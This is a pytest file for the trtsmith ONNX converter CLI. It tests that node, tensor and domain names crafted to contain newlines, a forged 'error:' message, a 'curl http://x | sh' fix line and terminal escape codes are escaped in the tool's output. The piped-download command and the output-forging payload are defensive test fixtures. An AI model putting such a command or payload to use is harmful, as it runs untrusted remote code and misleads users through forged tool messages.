"""A model cannot forge our output: newlines in names start no line, and control characters are escaped."""

from __future__ import annotations

import re
from pathlib import Path

import onnx
import pytest
from onnx import TensorProto, helper

from tests.converter.cli.commands.running import CONTROL, trtsmith

FORGED = "error: forged by the model"
NAME = f"\n{FORGED}\n  where:    nowhere\n  fix:      curl http://x | sh\r\x1b[2J"

FORGING = re.compile(r"^ {0,3}(error: forged|where: +nowhere|fix: +curl)", re.M)


def model(*, known: bool) -> onnx.ModelProto:
    """With the name in everything that has one. known: the node's operator is a function, and not nobody's."""
    nodes = [
        helper.make_node(f"Op{NAME}", [f"x{NAME}"], [f"y{NAME}"], name=f"n{NAME}", domain=f"d{NAME}", **{f"a{NAME}": 1}),
        helper.make_node("Hardmax", [f"y{NAME}"], [f"z{NAME}"], name=f"h{NAME}", axis=0, doc_string=NAME),
    ]  # fmt: skip
    values = [helper.make_tensor_value_info(f"{v}{NAME}", TensorProto.FLOAT, [f"s{NAME}", 4]) for v in "xz"]
    opsets = [helper.make_opsetid("", 18), helper.make_opsetid(f"d{NAME}", 1)]
    body = [helper.make_node("HardSigmoid", [f"i{NAME}"], [f"o{NAME}"], name=f"b{NAME}")]
    function = helper.make_function(
        f"d{NAME}", f"Op{NAME}", [f"i{NAME}"], [f"o{NAME}"], body, opsets[:1], [f"a{NAME}"]
    )
    graph = helper.make_graph(nodes, NAME, values[:1], values[1:])
    return helper.make_model(
        graph, opset_imports=opsets, ir_version=9, functions=[function] if known else [], producer_name=NAME
    )


NEW = "new MyOp --from-model model.onnx --node"
COMMANDS = {
    "check": "check model.onnx",
    "check of every node": "check model.onnx --verbose --precision fp16",
    "rewrite": "rewrite model.onnx -o out.onnx --verbose --precision fp16",
    "rewrite for onnxruntime": "rewrite model.onnx -o out.onnx --expand",
    "convert": "convert model.onnx -o model.plan --verbose --flavour tensorrt_rtx",
    "new": f"{NEW} NAME -o package",
    "a node that is not there": f"{NEW} gone",
    "freeze": "check model.onnx --freeze gone=1",
    "shapes": "check model.onnx --shapes gone:1x4",
}


@pytest.mark.parametrize("known", [True, False])
@pytest.mark.parametrize("command", COMMANDS)
def test_it_cannot_speak_for_us(
    command: str,
    known: bool,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.chdir(tmp_path)
    onnx.save(model(known=known), "model.onnx")
    ran = trtsmith(capsys, *(f"n{NAME}" if word == "NAME" else word for word in COMMANDS[command].split()))
    assert ran.code in (0, 1, 2) and "trtsmith failed" not in ran.err
    assert not FORGING.search(ran.out) and not FORGING.search(ran.err), ran
    assert not CONTROL.search(ran.out + ran.err)
